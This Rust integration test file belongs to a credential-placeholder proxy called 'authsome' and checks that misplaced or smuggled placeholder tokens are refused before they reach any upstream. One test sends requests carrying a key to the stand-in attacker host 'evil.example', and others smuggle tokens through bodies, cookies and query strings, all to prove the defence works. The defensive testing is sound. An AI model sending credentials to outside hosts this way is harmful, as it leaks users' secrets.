//! Placeholders on the wire (threat D7): one chooses its connection, in its slot, in its run, and
//! is refused everywhere else; what is refused reaches no upstream.

use std::io::Write as _;

use authsome_tests::stand_in::Options;
use authsome_tests::{Canary, Home, LiveRun, StandIn};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

const HOST: &str = "api.intercom.io";
const EVIL: &str = "evil.example";

/// One Intercom with two connections of `intercom` and one of `intercom-fin`.
struct World {
    good: StandIn,
    home: Home,
    team: Canary,
    fin: Canary,
}

fn world() -> World {
    let good = StandIn::start(&[HOST]);
    let mut home = Home::with(&good);
    home.login("intercom");
    let team = home.watch(Canary::new());
    home.login_with("intercom", &team, &["--connection", "team"]);
    let fin = home.watch(Canary::new());
    home.login_with("intercom-fin", &fin, &[]);
    World {
        good,
        home,
        team,
        fin,
    }
}

impl World {
    /// The three placeholders of a run with one for each.
    fn run(&self) -> LiveRun {
        LiveRun::start(
            &self.home,
            &[
                "--env",
                "TEAM=intercom/team",
                "--env",
                "REST=intercom",
                "--env",
                "FIN=intercom-fin",
            ],
        )
    }

    /// What the upstream saw last as the key.
    fn seen(&self) -> String {
        self.good.last().header("authorization").join(" and ")
    }

    fn saw_no_placeholder(&self) {
        for request in self.good.requests() {
            assert!(!placeholders_in(&format!("{request:?}")), "{request:?}");
        }
    }
}

fn bearer(canary: &Canary) -> String {
    format!("Bearer {}", canary.secret())
}

/// Whether `text` holds a random placeholder.
fn placeholders_in(text: &str) -> bool {
    text.match_indices("authsome").any(|(at, mark)| {
        let random = text[at + mark.len()..].chars().take(26);
        random.filter(char::is_ascii_alphanumeric).count() == 26
    })
}

/// Asks with a bearer token over HTTP/1.1; the status, and the code of a refusal.
fn ask(run: &LiveRun, method: &str, path: &str, token: &str) -> (u16, Option<String>) {
    say(
        run,
        method,
        path,
        &format!("Authorization: Bearer {token}\r\n"),
    )
}

fn say(run: &LiveRun, method: &str, path: &str, headers: &str) -> (u16, Option<String>) {
    let request = format!(
        "{method} {path} HTTP/1.1\r\nHost: {HOST}\r\n{headers}Content-Length: 0\r\n\
         Connection: close\r\n\r\n"
    );
    let answer = run.proxy().ask(HOST, &request).unwrap();
    (answer.status, answer.code().map(str::to_owned))
}

fn refused(code: &str) -> (u16, Option<String>) {
    (403, Some(code.to_owned()))
}

#[test]
fn a_placeholder_chooses_one_of_two_connections_in_one_run() {
    let world = world();
    let mut run = world.run();
    let default = bearer(&world.home.canary());
    // all three are there, random, and no literal; the provider's own variable stays as it is
    let texts: Vec<&str> = ["TEAM", "REST", "FIN"]
        .map(|name| run.variable(name))
        .into();
    assert!(texts.iter().all(|text| placeholders_in(text)), "{texts:?}");
    assert_eq!(run.variable("INTERCOM_API_KEY"), "authsome-proxy-managed");

    for (method, path, token, key) in [
        ("GET", "/me", "TEAM", bearer(&world.team)),
        ("GET", "/me", "REST", default.clone()),
        ("POST", "/fin/start", "FIN", bearer(&world.fin)),
    ] {
        let token = run.variable(token).to_owned();
        let (status, code) = ask(&run, method, path, &token);
        assert_eq!(
            (code, status == 200 || status == 404),
            (None, true),
            "{path}"
        );
        assert_eq!(world.seen(), key, "{method} {path}");
    }
    // without one, or with the literal, the route decides as ever
    for token in ["own", "authsome-proxy-managed"] {
        assert_eq!(ask(&run, "GET", "/me", token).0, 200);
        assert_eq!(world.seen(), default);
    }
    // the same with real clients in both versions, from the variable
    for version in ["--http1.1", "--http2"] {
        let line = format!(
            "curl -sS {version} -o /dev/null -w '%{{http_code}} %{{http_version}}\\n' \
             -H \"Authorization: Bearer $TEAM\" https://{HOST}/me"
        );
        let said = run.shell(&line);
        let expected = if version == "--http2" {
            "200 2"
        } else {
            "200 1.1"
        };
        assert_eq!(said.trim(), expected);
        assert_eq!(world.seen(), bearer(&world.team));
    }
    // Basic, user half, and in a connection that is already open
    let pair = STANDARD.encode(format!("{}:", run.variable("TEAM")));
    assert_eq!(
        say(
            &run,
            "GET",
            "/me",
            &format!("Authorization: Basic {pair}\r\n")
        )
        .0,
        200
    );
    assert_eq!(world.seen(), bearer(&world.team));
    world.saw_no_placeholder();
}

#[test]
fn swapped_misplaced_and_doubled_placeholders_are_refused() {
    let world = world();
    let mut run = world.run();
    world.good.forget();
    let (team, rest, fin) = (
        run.variable("TEAM").to_owned(),
        run.variable("REST").to_owned(),
        run.variable("FIN").to_owned(),
    );
    let misplaced = refused("placeholder_misplaced");
    for (method, path, token) in [
        ("GET", "/contacts", &fin),
        ("POST", "/fin/start", &rest),
        ("POST", "/fin/reply", &team),
        ("GET", "/fin/start", &fin),
    ] {
        assert_eq!(ask(&run, method, path, token), misplaced, "{method} {path}");
    }
    for headers in [
        format!("X-Api-Key: {team}\r\n"),
        format!("Cookie: sid={team}\r\n"),
        format!("User-Agent: me ({team})\r\n"),
        format!("Authorization: Bearer {team}, Bearer {rest}\r\n"),
        format!("Authorization: Bearer {team}\r\nAuthorization: Bearer {team}\r\n"),
        format!("Authorization: Bearer {team}\r\nX-Copy: {team}\r\n"),
        format!(
            "Authorization: Basic {}\r\n",
            STANDARD.encode(format!("{team}:{rest}"))
        ),
    ] {
        assert_eq!(say(&run, "GET", "/me", &headers), misplaced, "{headers}");
    }
    for path in [
        format!("/me?key={team}"),
        format!("/me/{team}"),
        format!("/me?a=%61{}", &team[1..]),
    ] {
        assert_eq!(say(&run, "GET", &path, ""), misplaced, "{path}");
    }
    // HTTP/2
    for (headers, path) in [
        ("-H \"Authorization: Bearer $FIN\"", "/contacts"),
        ("", "/me?k=$TEAM"),
    ] {
        let line = format!(
            "curl -sS --http2 --suppress-connect-headers -o /dev/null -D - {headers} \"https://{HOST}{path}\" | tr -d '\\r' | \
             grep -i '^HTTP\\|^authsome-error'"
        );
        let said = run.shell(&line);
        assert_eq!(
            said, "HTTP/2 403 \nauthsome-error: placeholder_misplaced\n",
            "{path}"
        );
    }
    assert_eq!(
        world.good.requests().len(),
        0,
        "{:?}",
        world.good.requests()
    );
    // it is on record
    let log = world
        .home
        .authsome(["log", "-n", "50", "--json"])
        .output()
        .succeeded();
    assert!(
        log.stdout.matches("placeholder_misplaced").count() >= 16,
        "{log}"
    );
}

#[test]
fn a_placeholder_says_nothing_in_another_run() {
    let world = world();
    let (one, two) = (world.run(), world.run());
    let token = one.variable("TEAM").to_owned();
    assert_ne!(token, two.variable("TEAM"));
    assert_eq!(ask(&one, "GET", "/me", &token).0, 200);
    world.good.forget();
    assert_eq!(
        ask(&two, "GET", "/me", &token),
        refused("placeholder_unknown")
    );
    // and nothing at all once its run is over
    one.end();
    assert_eq!(
        ask(&two, "GET", "/me", &token),
        refused("placeholder_unknown")
    );
    assert_eq!(world.good.requests().len(), 0);
}

#[test]
fn a_placeholder_follows_its_connection_through_logout_and_default() {
    let world = world();
    let run = world.run();
    let (team, rest) = (
        run.variable("TEAM").to_owned(),
        run.variable("REST").to_owned(),
    );
    // what stands for the default follows it, as the literal does
    let set = |name| {
        let words = ["connections", "set-default", "intercom", name];
        world.home.authsome(words).output().succeeded();
    };
    set("team");
    assert_eq!(ask(&run, "GET", "/me", &rest).0, 200);
    assert_eq!(world.seen(), bearer(&world.team));
    set("default");
    assert_eq!(ask(&run, "GET", "/me", &rest).0, 200);
    assert_eq!(world.seen(), bearer(&world.home.canary()));

    world
        .home
        .authsome(["logout", "intercom", "--connection", "team"])
        .output()
        .succeeded();
    world.good.forget();
    assert_eq!(ask(&run, "GET", "/me", &team), refused("login_needed"));
    assert_eq!(world.good.requests().len(), 0, "no other key in its place");
    assert_eq!(ask(&run, "GET", "/me", &rest).0, 200);
    let again = bearer(&world.team);
    world
        .home
        .login_with("intercom", &world.team, &["--connection", "team"]);
    assert_eq!(ask(&run, "GET", "/me", &team).0, 200);
    assert_eq!(world.seen(), again);
}

#[test]
fn a_placeholder_chooses_also_after_the_daemon_was_killed() {
    let world = world();
    let run = world.run();
    let team = run.variable("TEAM").to_owned();
    assert_eq!(ask(&run, "GET", "/me", &team).0, 200);
    world.home.crash_daemon();
    world.home.authsome(["status"]).output().succeeded();
    assert_eq!(ask(&run, "GET", "/me", &team).0, 200);
    assert_eq!(world.seen(), bearer(&world.team));
    let fin = run.variable("FIN").to_owned();
    assert_eq!(
        ask(&run, "GET", "/me", &fin),
        refused("placeholder_misplaced")
    );
}

#[test]
fn a_body_with_a_placeholder_is_broken_off() {
    let world = world();
    let mut run = world.run();
    let team = run.variable("TEAM").to_owned();
    world.good.forget();
    let (head, tail) = team.split_at(13);
    let chunk = |text: &str| format!("{:x}\r\n{text}\r\n", text.len());
    let chunked = [chunk("before "), chunk(head), chunk(tail), chunk(" after")].concat();
    let whole = format!("say {team}");
    for (framing, body) in [
        (format!("Content-Length: {}", whole.len()), whole.clone()),
        (
            "Transfer-Encoding: chunked".to_owned(),
            format!("{chunked}0\r\n\r\n"),
        ),
        (
            "Trailer: X-Sum\r\nTransfer-Encoding: chunked".to_owned(),
            format!("{}0\r\nX-Sum: {team}\r\n\r\n", chunk("data")),
        ),
    ] {
        let request = format!(
            "POST /echo HTTP/1.1\r\nHost: {HOST}\r\n{framing}\r\nConnection: close\r\n\r\n{body}"
        );
        let answer = run.proxy().ask(HOST, &request).unwrap();
        let told = (answer.status, answer.code().map(str::to_owned));
        assert_eq!(told, refused("placeholder_misplaced"), "{framing}");
    }
    let line = format!(
        "curl -sS --http2 -o /dev/null -w '%{{http_code}} %{{http_version}}' --data \"k=$TEAM\" https://{HOST}/echo"
    );
    assert_eq!(run.shell(&line).trim(), "403 2");
    // no request arrived as a whole
    for request in world.good.requests() {
        assert!(request.body_len() < whole.len() as u64, "{request:?}");
    }
    let log = world
        .home
        .authsome(["log", "-n", "50", "--json"])
        .output()
        .succeeded();
    assert_eq!(
        log.stdout.matches("placeholder_misplaced").count(),
        4,
        "{log}"
    );

    // the literal, and what is none, pass
    let text = format!(
        "authsome-proxy-managed {} {}",
        &team[..33],
        "x".repeat(100_000)
    );
    world.home.write("body", &text);
    let file = world.home.work().join("body");
    let line = format!(
        "curl -sS --data-binary @{} https://{HOST}/upload",
        file.display()
    );
    assert!(
        run.shell(&line)
            .contains(&format!("\"received\":{}", text.len()))
    );
    assert_eq!(
        ask(&run, "GET", "/me", &team).0,
        200,
        "the next request is fine"
    );
}

#[test]
fn a_body_is_left_alone_where_the_configuration_says_so() {
    let world = world();
    let mut run = world.run();
    let body = "--data \"k=$TEAM\"";
    let line = format!("curl -sS -o /dev/null -w '%{{http_code}}' {body} https://{HOST}/echo");
    assert_eq!(run.shell(&line).trim(), "403");
    // a change takes effect in a living run
    let path = world.home.path().join("config.toml");
    let text = std::fs::read_to_string(&path).unwrap();
    let text = text.replace("[proxy]\n", "[proxy]\nplaceholder_in_body = \"pass\"\n");
    std::fs::write(&path, text).unwrap();
    world.home.authsome(["status"]).output().succeeded();
    assert_eq!(run.shell(&line).trim(), "200");
}

#[test]
fn a_placeholder_for_a_host_without_a_route_goes_nowhere() {
    let world = world();
    let listener = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
    listener.set_nonblocking(true).unwrap();
    let address = listener.local_addr().unwrap();
    let home = Home::builder()
        .stand_in(&world.good)
        .resolve(&format!("{EVIL}:80"), &address.to_string())
        .build();
    home.login("intercom");
    let run = LiveRun::start(&home, &["--env", "KEY=intercom"]);
    let (key, proxy) = (run.variable("KEY").to_owned(), run.proxy());
    let authorization = proxy.authorization();
    let unknown = format!("authsome{}", "a".repeat(26));
    for (target, header, code) in [
        (
            "/",
            format!("Authorization: Bearer {key}\r\n"),
            "placeholder_misplaced",
        ),
        ("/", format!("X-Key: {unknown}\r\n"), "placeholder_unknown"),
        (
            "/",
            "X-Key: authsome-proxy-managed\r\n".to_owned(),
            "placeholder_misplaced",
        ),
        (
            "/?k=authsome-proxy-managed",
            String::new(),
            "placeholder_misplaced",
        ),
    ] {
        let request = format!(
            "GET http://{EVIL}{target} HTTP/1.1\r\nHost: {EVIL}\r\n{authorization}{header}\
             Connection: close\r\n\r\n"
        );
        let answer = proxy.say(&request).unwrap();
        assert_eq!(answer.code(), Some(code), "{request}");
    }
    assert_eq!(
        listener.accept().unwrap_err().kind(),
        std::io::ErrorKind::WouldBlock,
        "nothing was dialled"
    );
}

#[test]
fn a_provider_that_checks_keys_gets_placeholders_of_that_shape() {
    let mail = StandIn::with(Options {
        names: vec!["api.sendgrid.com".to_owned()],
        ..Options::default()
    });
    let home = Home::with(&mail);
    home.login("sendgrid");
    let mut run = LiveRun::start(&home, &["--env", "MAIL=sendgrid/default"]);
    let key = run.variable("SENDGRID_API_KEY").to_owned();
    assert!(key.starts_with("SG.authsome"), "{key}");
    assert!(run.variable("MAIL").starts_with("SG.authsome"));
    assert_ne!(run.variable("MAIL"), key);
    for variable in ["SENDGRID_API_KEY", "MAIL"] {
        let line = format!(
            "curl -sS -o /dev/null -w '%{{http_code}}' -H \"Authorization: Bearer ${variable}\" \
             https://api.sendgrid.com/me"
        );
        assert_eq!(run.shell(&line).trim(), "200", "{variable}");
        let seen = mail.last().header("authorization").join("");
        assert_eq!(seen, bearer(&home.canary()));
    }
}

#[test]
fn what_cannot_be_granted_is_said_before_the_command_starts() {
    let world = world();
    for (options, says) in [
        (&["--env", "A=nonesuch"][..], "no provider named `nonesuch`"),
        (&["--env", "A=intercom/none"], "no connection named `none`"),
        (&["--env", "A=github"], "`github`"),
        (&["--env", "HTTPS_PROXY=intercom"], "HTTPS_PROXY"),
        (&["--env", "AUTHSOME_RUN=intercom"], "AUTHSOME_RUN"),
        (&["--env", "PATH=intercom"], "PATH"),
        (&["--env", "A=intercom", "--env", "A=intercom-fin"], "twice"),
        (&["--only", "github", "--env", "A=intercom"], "--only"),
    ] {
        let output = world
            .home
            .authsome(["run"])
            .args(options)
            .args(["--", "echo", "started"])
            .output();
        assert_eq!(output.code(), Some(125), "{options:?}: {output}");
        assert!(output.stderr.contains(says), "{options:?}: {output}");
        assert!(!output.stdout.contains("started"), "{output}");
    }
}

/// L3
#[test]
fn a_run_within_a_run_keeps_what_was_added_and_adds_nothing() {
    let world = world();
    let mut run = LiveRun::start(&world.home, &["--env", "TEAM=intercom/team"]);
    let line = format!(
        "authsome run -- sh -c 'test \"$TEAM\" != \"{}\" && curl -sS -o /dev/null -w \"%{{http_code}}\" \
         -H \"Authorization: Bearer $TEAM\" https://{HOST}/me'",
        run.variable("TEAM")
    );
    assert_eq!(run.shell(&line).trim(), "200");
    assert_eq!(world.seen(), bearer(&world.team));
    let said = run.shell("authsome run --env X=intercom/team -- echo in; echo $?");
    assert_eq!(said.trim(), "in\n0");
    world
        .home
        .login_with("intercom", &world.team, &["--connection", "third"]);
    let said = run.shell("authsome run --env X=intercom/third -- echo in 2>/dev/null; echo $?");
    assert_eq!(said.trim(), "125");
}

#[test]
fn a_providers_own_variable_can_choose() {
    let world = world();
    let mut run = LiveRun::start(&world.home, &["--env", "INTERCOM_API_KEY=intercom/team"]);
    assert!(placeholders_in(run.variable("INTERCOM_API_KEY")));
    let line = format!(
        "curl -sS -o /dev/null -H \"Authorization: Bearer $INTERCOM_API_KEY\" https://{HOST}/me"
    );
    run.shell(&line);
    assert_eq!(world.seen(), bearer(&world.team));
    let verbose = world
        .home
        .authsome(["--verbose", "run", "--env", "T=intercom/team", "--", "true"])
        .output()
        .succeeded();
    assert!(verbose.stderr.contains("T=intercom/team"), "{verbose}");
    assert!(verbose.stderr.contains("intercom/team"), "{verbose}");
}

#[test]
fn a_placeholder_behind_half_a_megabyte_of_body_still_breaks_it_off() {
    let world = world();
    let run = world.run();
    let team = run.variable("TEAM").to_owned();
    let mut tunnel = run.proxy().tls(&format!("{HOST}:443"), HOST).unwrap();
    let head = format!("POST /upload HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 1000000\r\n\r\n");
    tunnel.write_all(head.as_bytes()).unwrap();
    tunnel.write_all(&vec![b'x'; 500_000]).unwrap();
    tunnel.flush().unwrap();
    tunnel.write_all(team.as_bytes()).unwrap();
    tunnel.flush().unwrap();
    let answer = authsome_tests::raw::read_answer(&mut tunnel).unwrap();
    assert_eq!(answer.code(), Some("placeholder_misplaced"));
    // what came before is on its way already, the placeholder is not
    for request in world.good.requests() {
        assert!(request.body_len() <= 500_000, "{request:?}");
    }
}
